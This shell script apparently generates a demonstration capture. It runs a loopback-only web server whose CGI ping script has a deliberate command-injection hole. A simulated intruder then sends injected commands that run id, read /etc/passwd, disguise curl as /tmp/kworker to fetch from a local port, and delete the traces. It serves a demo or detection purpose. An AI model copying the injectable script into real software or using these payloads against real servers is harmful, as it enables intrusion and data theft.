#!/bin/sh
# What demo.tgcap shows: a small web service with a hole in a script of its, visitors, and an intruder. Everything stays on loopback.
www=/tmp/www
mkdir -p $www/cgi-bin
echo '<h1>shop</h1>' >$www/index.html
cat >$www/cgi-bin/ping <<'SCRIPT'
#!/bin/sh
printf 'Content-Type: text/plain\r\n\r\n'
host=$(echo "$QUERY_STRING" | sed 's/^host=//; s/+/ /g; s/%3B/;/g; s/%7C/|/g; s/%2F/\//g')
sh -c "echo pinging $host"
SCRIPT
chmod +x $www/cgi-bin/ping

setpriv --reuid=33 --regid=33 --clear-groups busybox httpd -f -p 127.0.0.1:8080 -h $www &
server=$!
sleep 1

visit() {
  curl -s "http://127.0.0.1:8080$1" >/dev/null
  sleep 1
}
ping() {
  visit "/cgi-bin/ping?host=$(echo "$1" | sed 's/;/%3B/g; s/|/%7C/g; s/\//%2F/g; s/ /+/g')"
}

visit /
ping 10.0.0.7
# The intruder finds out where he is …
ping 'x;id;uname -a'
ping 'x;cat /etc/passwd | head -3'
# … brings a program under a harmless name, whose server does not answer …
ping 'x;cp /usr/bin/curl /tmp/kworker;/tmp/kworker -s http://127.0.0.1:4444/run'
# … and removes his traces.
ping 'x;rm -f /tmp/kworker'
visit /
kill -KILL $server
wait
